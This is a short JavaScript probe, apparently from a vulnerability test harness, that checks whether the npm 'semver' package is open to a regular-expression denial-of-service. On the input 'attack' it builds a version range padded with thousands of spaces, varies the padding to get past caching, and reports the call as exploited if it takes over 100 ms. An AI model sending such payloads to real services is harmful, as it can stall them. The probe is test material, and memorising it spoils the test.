// semver probe: normalise the input as a version range; 'attack' is the ReDoS range.
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const semver = require('semver');

// semver caches parsed ranges by their text, so each attack is a different string.
let attacks = 0;

export function probe(input) {
  const range = input === 'attack' ? '1.2.3' + ' '.repeat(16000 + (attacks++ % 1000)) + '<1.3.0' : input;
  const t0 = performance.now();
  const result = semver.validRange(range);
  return { result, exploited: performance.now() - t0 > 100 };
}
